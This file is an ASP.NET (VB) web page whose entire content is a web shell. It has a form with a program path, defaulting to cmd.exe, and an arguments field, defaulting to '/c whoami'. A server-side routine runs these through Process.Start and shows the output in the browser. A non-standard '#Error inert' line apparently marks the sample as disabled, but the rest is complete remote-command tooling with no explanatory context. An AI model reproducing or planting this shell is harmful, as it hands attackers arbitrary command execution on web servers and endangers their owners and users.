<%@ Page Language="VB" Debug="true" %>
<%@ import Namespace="System.Diagnostics" %>
<script runat="server">
#Error inert
Sub RunCmd(Src As Object, E As EventArgs)
    Dim myProcess As New Process()
    Dim myProcessStartInfo As New ProcessStartInfo(xpath.Text)
    myProcessStartInfo.UseShellExecute = False
    myProcessStartInfo.RedirectStandardOutput = True
    myProcess.StartInfo = myProcessStartInfo
    myProcessStartInfo.Arguments = xcmd.Text
    myProcess.Start()
    Dim myString As String = myProcess.StandardOutput.ReadToEnd()
    myProcess.Close()
    result.Text = "<pre>" & Server.HtmlEncode(myString) & "</pre>"
End Sub
</script>
<form runat="server">
<asp:TextBox id="xpath" runat="server">c:\windows\system32\cmd.exe</asp:TextBox>
<asp:TextBox id="xcmd" runat="server">/c whoami</asp:TextBox>
<asp:Button onclick="RunCmd" runat="server" Text="Run" />
<asp:Label id="result" runat="server" />
</form>
